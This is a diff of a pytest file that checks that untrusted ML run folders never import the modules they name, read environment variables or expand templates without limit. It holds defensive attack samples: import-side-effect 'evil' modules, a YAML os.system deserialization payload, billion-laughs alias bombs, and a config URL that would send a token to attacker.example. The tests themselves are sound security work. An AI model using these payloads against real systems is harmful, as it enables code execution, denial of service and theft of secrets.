@@ -1,4 +1,4 @@
-"""Run folders from strangers: nothing of theirs is imported, read or expanded unasked."""
+"""Untrusted run folders: nothing they name is imported, read or expanded without consent."""
 
 from __future__ import annotations
 
@@ -29,8 +29,8 @@ JOB = job_for("model=mlp", "data.batch_size=50")
 MODES = ["test", "valid", "predict", "export"]
 
 
-def checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Path:
-    """The last.pt of a run folder with that configuration."""
+def write_checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Path:
+    """Write the last.pt of a run folder with a configuration and its template."""
     content = {
         "format": FORMAT_VERSION,
         "config": json.dumps(config),
@@ -41,122 +41,123 @@ def checkpoint(folder: Path, config: dict[str, Any], template: Any) -> Path:
         "history": "[]",
         "training": None,
     }
-    file = folder / "theirs" / "checkpoints" / "last.pt"
+    file = folder / "untrusted" / "checkpoints" / "last.pt"
     file.parent.mkdir(parents=True, exist_ok=True)
     file.write_bytes(checkpoint_bytes(content))
     return file
 
 
-def theirs() -> tuple[dict[str, Any], dict[str, Any]]:
-    """A configuration, and its template, that may be changed."""
+def copy_config() -> tuple[dict[str, Any], dict[str, Any]]:
+    """Return copies of a resolved configuration and its template, to be changed."""
     return copy.deepcopy(JOB.plain), yaml.safe_load(JOB.template)
 
 
 @pytest.fixture
-def evil(elsewhere: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """Modules that leave a file when they are imported; gives it."""
-    left = elsewhere / "was_here"
-    monkeypatch.syspath_prepend(elsewhere)
+def import_marker(tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Modules that create a file when they are imported; the fixture is its path."""
+    marker = tmp_cwd / "was_here"
+    monkeypatch.syspath_prepend(tmp_cwd)
     monkeypatch.setattr(sys, "dont_write_bytecode", True)
-    code = f"open({str(left)!r}, 'w').close()\nclass Net: pass\n"
+    code = f"open({str(marker)!r}, 'w').close()\nclass Net: pass\n"
     for name in ("evil", "evil/torch", "evil/torch/nn", "app/models/evil", "torchmetricsevil"):
-        path = elsewhere / name
+        path = tmp_cwd / name
         path.mkdir(parents=True)
         (path / "__init__.py").write_text(code)
-    (elsewhere / "torch").mkdir()
-    (elsewhere / "torch" / "evil.py").write_text(code)
-    return left
+    (tmp_cwd / "torch").mkdir()
+    (tmp_cwd / "torch" / "evil.py").write_text(code)
+    return marker
 
 
 @pytest.mark.parametrize("mode", MODES)
-def test_all_that_would_be_imported_is_named_at_once(
-    mode: str, evil: Path, elsewhere: Path
+def test_untrusted_targets_are_listed_and_not_imported(
+    mode: str, import_marker: Path, tmp_cwd: Path
 ) -> None:
-    config, template = theirs()
+    config, template = copy_config()
     node = {"_target_": "evil.torch.nn.Net"}
     config["model"] = {"_target_": "evil.Net", "_args_": [[{"deep": node}]]}
     config["callbacks"]["never"] = {"a": [1, node, {"_target_": "torchmetricsevil.Net"}]}
     config["optimizer"] = {"_target_": "app.evil.Net"}
     config["notes"] = {"nowhere": {"_target_": "torch.evil.Net"}}
-    file = checkpoint(elsewhere, config, template)
+    file = write_checkpoint(tmp_cwd, config, template)
     with pytest.raises(UserError) as caught:
         job_for(f"mode={mode}", f"ckpt={file.parent.parent}")
     assert str(caught.value).splitlines() == [
-        f"{file.parent.parent} names code from outside this program; nothing of it was imported:",
+        f"{file.parent.parent} references code outside this program; none of it was imported:",
         "  callbacks.never.a.1._target_='evil.torch.nn.Net'",
         "  callbacks.never.a.2._target_='torchmetricsevil.Net'",
         "  model._args_.0.0.deep._target_='evil.torch.nn.Net'",
         "  model._target_='evil.Net'",
         "  optimizer._target_='app.evil.Net'",
-        "if you trust that code: trusted_targets=[app.evil,evil,evil.torch.nn,torchmetricsevil]",
+        "if you trust that code, add "
+        "trusted_targets=[app.evil,evil,evil.torch.nn,torchmetricsevil]",
     ]
-    assert not evil.exists()
+    assert not import_marker.exists()
 
 
-def test_resume_of_a_strangers_run(evil: Path, elsewhere: Path) -> None:
-    config, template = theirs()
+def test_resume_of_untrusted_run_imports_nothing(import_marker: Path, tmp_cwd: Path) -> None:
+    config, template = copy_config()
     config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
-    folder = checkpoint(elsewhere, config, template).parent.parent
-    with pytest.raises(UserError, match=r"nothing of it was imported:\n  model\._target_='evil"):
+    folder = write_checkpoint(tmp_cwd, config, template).parent.parent
+    with pytest.raises(UserError, match=r"none of it was imported:\n  model\._target_='evil"):
         job_for(f"resume={folder}")
-    assert not evil.exists()
+    assert not import_marker.exists()
 
 
-def test_a_name_that_is_put_together(evil: Path, elsewhere: Path) -> None:
-    config, template = theirs()
+def test_interpolated_target_is_not_imported(import_marker: Path, tmp_cwd: Path) -> None:
+    config, template = copy_config()
     template["notes"] = "evil"
     template["model"]["_target_"] = "${or:${notes},1}.Net"
-    file = checkpoint(elsewhere, config, template)
+    file = write_checkpoint(tmp_cwd, config, template)
     job_for("mode=test", f"ckpt={file}")
     template["model"]["_target_"] = "${data.path}.Net"
-    file = checkpoint(elsewhere, config, template | {"data": template["data"] | {"path": "a"}})
+    file = write_checkpoint(tmp_cwd, config, template | {"data": template["data"] | {"path": "a"}})
     with pytest.raises(UserError, match=r"model\._target_"):
         job_for("mode=test", f"ckpt={file}", "++data.path=evil")
-    assert not evil.exists()
+    assert not import_marker.exists()
 
 
 @pytest.mark.parametrize("name", ["app.models.evil.Net", "torch.nn.evil.Net"])
-def test_a_module_below_an_allowed_package_is_not_theirs(
-    name: str, evil: Path, elsewhere: Path
+def test_foreign_module_inside_allowed_package_is_not_imported(
+    name: str, import_marker: Path, tmp_cwd: Path
 ) -> None:
-    config, template = theirs()
+    config, template = copy_config()
     config["model"] = {"_target_": name}
-    file = checkpoint(elsewhere, config, template)
-    with pytest.raises(UserError, match="does not import: no 'evil' in"):
+    file = write_checkpoint(tmp_cwd, config, template)
+    with pytest.raises(UserError, match="cannot be imported: no 'evil' in"):
         job_for("mode=test", f"ckpt={file}")
-    assert not evil.exists()
+    assert not import_marker.exists()
 
 
-def test_their_own_trust_counts_for_nothing(evil: Path, elsewhere: Path) -> None:
-    config, template = theirs()
+def test_trusted_targets_of_saved_run_are_ignored(import_marker: Path, tmp_cwd: Path) -> None:
+    config, template = copy_config()
     config["model"]["_target_"] = template["model"]["_target_"] = "evil.Net"
     config["trusted_targets"] = template["trusted_targets"] = ["evil"]
-    file = checkpoint(elsewhere, config, template)
-    with pytest.raises(UserError, match="nothing of it was imported"):
+    file = write_checkpoint(tmp_cwd, config, template)
+    with pytest.raises(UserError, match="none of it was imported"):
         job_for("mode=test", f"ckpt={file}")
-    assert not evil.exists()
+    assert not import_marker.exists()
 
 
-def test_trust_is_typed_by_name(evil: Path, elsewhere: Path) -> None:
-    config, template = theirs()
+def test_trusted_targets_override_allows_import(import_marker: Path, tmp_cwd: Path) -> None:
+    config, template = copy_config()
     config["model"] = template["model"] = {"_target_": "evil.Net"}
-    file = checkpoint(elsewhere, config, template)
+    file = write_checkpoint(tmp_cwd, config, template)
     job = job_for("mode=test", f"ckpt={file}", "trusted_targets=[evil]")
     assert job.plain["model"] == {"_target_": "evil.Net"}
-    assert evil.exists()
+    assert import_marker.exists()
 
 
-def test_a_folder_of_torch_distributed_checkpoint(elsewhere: Path) -> None:
-    (elsewhere / ".metadata").write_bytes(b"")
-    with pytest.raises(UserError, match=r"is of torch\.distributed\.checkpoint"):
-        job_for("mode=test", f"ckpt={elsewhere}")
+def test_ckpt_refuses_torch_distributed_checkpoint(tmp_cwd: Path) -> None:
+    (tmp_cwd / ".metadata").write_bytes(b"")
+    with pytest.raises(UserError, match=r"is a torch\.distributed\.checkpoint"):
+        job_for("mode=test", f"ckpt={tmp_cwd}")
 
 
-# ---- their templates
+# ---- templates of saved runs
 
 
 @pytest.mark.parametrize(
-    "asked",
+    "interpolation",
     [
         "${oc.env:SECRET}",
         "${ oc.env:SECRET}",
@@ -171,60 +172,65 @@ def test_a_folder_of_torch_distributed_checkpoint(elsewhere: Path) -> None:
         "${hydra:runtime.cwd}",
     ],
 )
-def test_a_template_reads_nothing_of_this_machine(
-    asked: str, monkeypatch: pytest.MonkeyPatch
+def test_template_interpolations_read_nothing_of_this_machine(
+    interpolation: str, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("SECRET", "hunter2")
-    raw = {"asked": asked, "data": "oc", "secret": "1", "more": ["${asked}", asked]}
+    more = ["${asked}", interpolation]
+    raw = {"asked": interpolation, "data": "oc", "secret": "1", "more": more}
     template = safe_template(yaml.safe_dump(raw), {"asked": "then", "more": ["", 5]}, "a.pt")
     plain, mistakes = resolve(template)
     assert (plain["asked"], plain["more"], mistakes) == ("then", ["then", 5], [])
 
 
-def test_a_template_is_interpolated_by_the_programs_own_functions(elsewhere: Path) -> None:
+def test_template_uses_safe_resolvers(tmp_cwd: Path) -> None:
     raw = {
         "a": {"size": None, "path": "b"},
         "size": "${or:${a.size},28}",
         "path": "${path:${a.path}}",
     }
     plain, _ = resolve(safe_template(yaml.safe_dump(raw), {}, "a.pt"))
-    assert (plain["size"], plain["path"]) == (28, str(elsewhere / "b"))
+    assert (plain["size"], plain["path"]) == (28, str(tmp_cwd / "b"))
 
 
-def laughs(first: str, line: str) -> str:
+def repeat_line(first: str, line: str) -> str:
+    """Return YAML in which each of 39 nodes refers to the one before, as in 'billion laughs'."""
     lines = [line.replace("THIS", f"a{n}").replace("LAST", f"a{n - 1}") for n in range(1, 40)]
     return "\n".join([first, *lines])
 
 
-GROWING = {
-    "twice the text": laughs("a0: ha", "THIS: ${LAST}${LAST}"),
-    "twice the node": laughs("a0: {b: ha}", "THIS: {b: '${LAST}', c: '${LAST}'}"),
-    "twice beside": laughs("a0: {b: ha}", "THIS: {b: '${..LAST}', c: '${..LAST}'}"),
-    "twice through another": laughs(
+EXPANDING_TEMPLATES = {
+    "twice the text": repeat_line("a0: ha", "THIS: ${LAST}${LAST}"),
+    "twice the node": repeat_line("a0: {b: ha}", "THIS: {b: '${LAST}', c: '${LAST}'}"),
+    "twice beside": repeat_line("a0: {b: ha}", "THIS: {b: '${..LAST}', c: '${..LAST}'}"),
+    "twice through another": repeat_line(
         "a0: {b: {}}", "x_THIS: ${LAST}\nTHIS: {b: ['${x_THIS.b}', 1]}"
     ),
-    "twice a last item": laughs("a0: [[1]]", "THIS: [['${LAST.-1}', '${LAST.-1}']]"),
+    "twice a last item": repeat_line("a0: [[1]]", "THIS: [['${LAST.-1}', '${LAST.-1}']]"),
     "broad": "a0: ha\n" + "\n".join(f"a{n}: {f'${{a{n - 1}}}' * 20}" for n in range(1, 9)),
     "a chain": "\n".join(f"a{n}: ${{a{n + 1}}}" for n in range(900)),
-    "a chain the other way": laughs("a0: ha", "THIS: ${LAST}"),
-    "deeper and deeper": laughs("a0: ha", "THIS: [[[[['${LAST}']]]]]"),
+    "a chain the other way": repeat_line("a0: ha", "THIS: ${LAST}"),
+    "deeper and deeper": repeat_line("a0: ha", "THIS: [[[[['${LAST}']]]]]"),
     "a circle": "a: ${b}\nb: ${a}",
     "a node in itself": "a: {b: '${a}'}",
 }
 
 
-@pytest.mark.parametrize("name", GROWING)
-def test_a_template_that_grows_is_refused(name: str) -> None:
+@pytest.mark.parametrize("name", EXPANDING_TEMPLATES)
+def test_expanding_template_is_refused(name: str) -> None:
     with pytest.raises(UserError, match=r"a\.pt: its template (grows|refers to itself)"):
-        resolve(safe_template(GROWING[name], {}, "a.pt"))
+        resolve(safe_template(EXPANDING_TEMPLATES[name], {}, "a.pt"))
 
 
 @pytest.mark.parametrize(
-    ("text", "said"),
+    ("text", "message"),
     [
-        (laughs("a0: &a0 [ha]", "THIS: &THIS [*LAST, *LAST]"), "more than 100,000 values"),
-        (laughs("a0: &a0 {b: 1}", "THIS: &THIS {<<: [*LAST, *LAST]}"), "more than 100,000 values"),
-        ("a: &a [*a]", "an alias that stands for nothing finished"),
+        (repeat_line("a0: &a0 [ha]", "THIS: &THIS [*LAST, *LAST]"), "more than 100,000 values"),
+        (
+            repeat_line("a0: &a0 {b: 1}", "THIS: &THIS {<<: [*LAST, *LAST]}"),
+            "more than 100,000 values",
+        ),
+        ("a: &a [*a]", "an alias refers to itself or to an unknown anchor"),
         ("[" * 100_000, "nested more than 64 deep"),
         ("- " * 100_000, "nested more than 64 deep"),
         ("a: " + "b" * 60_000, "a text of 60,000 letters"),
@@ -233,37 +239,40 @@ def test_a_template_that_grows_is_refused(name: str) -> None:
         ("a: " + "1:" * 5000 + "1", "an integer of more than 64 bits"),
         ("a: " + "9" * 5000, "is not YAML"),
         ("a: !!python/object/apply:os.system [id]", "could not determine a constructor"),
-        ("a: !!python/object/apply:pathlib.PosixPath [a]", "a value of type PosixPath"),
-        ("a: !!binary aGE=", "a value of type bytes"),
+        (
+            "a: !!python/object/apply:pathlib.PosixPath [a]",
+            "a value of type PosixPath is not supported",
+        ),
+        ("a: !!binary aGE=", "a value of type bytes is not supported"),
         ("? [a]\n: 1", "found unhashable key"),
         ("a: \0", "is not YAML"),
-        (5, "is a int, not a YAML text"),
+        (5, "must be a YAML text, not int"),
     ],
 )
-def test_yaml_with_bounds(text: Any, said: str) -> None:
+def test_load_yaml_beyond_limits_fails(text: Any, message: str) -> None:
     with pytest.raises(UserError, match=r"^mine: |^mine (is|has) ") as caught:
         load_yaml(text, "mine")
-    assert said in str(caught.value)
+    assert message in str(caught.value)
     assert len(str(caught.value)) < 400
 
 
-def test_yaml_within_bounds_is_as_omegaconf_reads_it() -> None:
+def test_load_yaml_within_limits_reads_like_omegaconf() -> None:
     text = "a: &a {b: 1e-3, c: 2026-01-01}\nd: *a\ne: {<<: *a, c: on}\n3: [null, '4']"
     shared = {"b": 0.001, "c": "2026-01-01"}
     expected = {"a": shared, "d": shared, "e": {"b": 0.001, "c": True}, 3: [None, "4"]}
     assert load_yaml(text, "mine") == expected
 
 
-def test_json_with_bounds() -> None:
+def test_load_json_beyond_limits_fails() -> None:
     assert load_json('{"a": [1, NaN]}', "mine").keys() == {"a"}
     for text in ("[" * 500_000, "[" * 65 + "]" * 65, "1" * 5000, str(2**64), "{", b"1"):
         with pytest.raises(UserError, match=r"^mine"):
             load_json(text, "mine")
 
 
-# ---- anything in the place of anything
+# ---- arbitrary values in the configuration
 
-PLACES = [
+KEYS = [
     ".".join(map(str, path))
     for path in [
         ("model",),
@@ -305,13 +314,13 @@ VALUES = st.recursive(
     ),
     max_leaves=5,
 )
-CHANGES = st.dictionaries(st.sampled_from(PLACES), VALUES, min_size=1, max_size=3)
+CHANGES = st.dictionaries(st.sampled_from(KEYS), VALUES, min_size=1, max_size=3)
 
 
-def changed(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
+def with_changes(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
     config = copy.deepcopy(config)
-    for place, value in changes.items():
-        *outer, last = place.split(".")
+    for path, value in changes.items():
+        *outer, last = path.split(".")
         node: Any = config
         for key in outer:
             node = node.get(key) if isinstance(node, dict) else None
@@ -321,13 +330,15 @@ def changed(config: dict[str, Any], changes: dict[str, Any]) -> dict[str, Any]:
 
 
 def check_config(folder: Path, changes: dict[str, Any], in_template: bool) -> None:
-    config, template = theirs()
-    file = checkpoint(
-        folder, changed(config, changes), changed(template, changes) if in_template else template
+    config, template = copy_config()
+    file = write_checkpoint(
+        folder,
+        with_changes(config, changes),
+        with_changes(template, changes) if in_template else template,
     )
-    for words in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
+    for arguments in (("mode=test", f"ckpt={file}"), (f"resume={file.parent.parent}",)):
         try:
-            job_for(*words, "trainer.limit_test_batches=3")
+            job_for(*arguments, "trainer.limit_test_batches=3")
         except UserError as error:
             assert len(str(error)) < 20_000
 
@@ -343,9 +354,11 @@ def check_config(folder: Path, changes: dict[str, Any], in_template: bool) -> No
         {"hydra": {"a": [{}]}, "data": None},
     ],
 )
-def test_configurations_that_are_none(elsewhere: Path, changes: dict[str, Any]) -> None:
-    check_config(elsewhere, changes, True)
-    check_config(elsewhere, changes, False)
+def test_malformed_saved_config_fails_with_user_error(
+    tmp_cwd: Path, changes: dict[str, Any]
+) -> None:
+    check_config(tmp_cwd, changes, True)
+    check_config(tmp_cwd, changes, False)
 
 
 @pytest.mark.long
@@ -357,13 +370,13 @@ def test_configurations_that_are_none(elsewhere: Path, changes: dict[str, Any]) 
     suppress_health_check=[HealthCheck.function_scoped_fixture],
 )
 @given(changes=CHANGES, in_template=st.booleans())
-def test_configurations_of_anything(
-    elsewhere: Path, changes: dict[str, Any], in_template: bool
+def test_random_saved_config_fails_with_user_error(
+    tmp_cwd: Path, changes: dict[str, Any], in_template: bool
 ) -> None:
-    check_config(elsewhere, changes, in_template)
+    check_config(tmp_cwd, changes, in_template)
 
 
-# ---- what the program offers itself
+# ---- targets of allowed packages
 
 
 @pytest.mark.parametrize(
@@ -377,34 +390,34 @@ def test_configurations_of_anything(
         "torchmetrics.functional.multimodal.clip_score.clip_score",
     ],
 )
-def test_parts_that_run_or_write_what_they_are_told_are_refused(name: str) -> None:
+def test_locate_refuses_targets_that_run_code_or_write_files(name: str) -> None:
     with pytest.raises(TargetError, match="is not allowed"):
         locate(name)
     assert callable(locate(name, [name]))
 
 
-def test_what_a_part_has_borrowed_is_no_part() -> None:
+def test_locate_refuses_name_imported_from_elsewhere() -> None:
     with pytest.raises(TargetError, match=r"belongs to 'torch\.nn\.functional'"):
         locate("app.callbacks.image_grids.interpolate")
 
 
-def test_parts_are_located() -> None:
+def test_locate_finds_torch_class() -> None:
     assert locate("torch.nn.Linear") is torch.nn.Linear
 
 
-def test_a_saved_run_reads_no_variable_that_is_not_asked_for(
-    elsewhere: Path, monkeypatch: pytest.MonkeyPatch
+def test_saved_run_reads_environment_variable_only_if_overridden(
+    tmp_cwd: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Its address could be anybody's."""
+    """The address in the saved run could be an attacker's."""
     monkeypatch.setenv("MY_TOKEN", "t0p-s3cret")
-    config, template = theirs()
-    address = "https://theirs.example/${oc.env:MY_TOKEN}"
+    config, template = copy_config()
+    address = "https://attacker.example/${oc.env:MY_TOKEN}"
     config["callbacks"]["mlflow"] = {
         "_target_": "app.callbacks.mlflow.MLflow",
         "tracking_uri": address,
     }
     template["callbacks"]["mlflow"] = config["callbacks"]["mlflow"]
-    file = checkpoint(elsewhere, config, template)
+    file = write_checkpoint(tmp_cwd, config, template)
     key = "callbacks.mlflow.tracking_uri"
     with pytest.raises(UserError) as refused:
         job_for("mode=test", f"ckpt={file}")
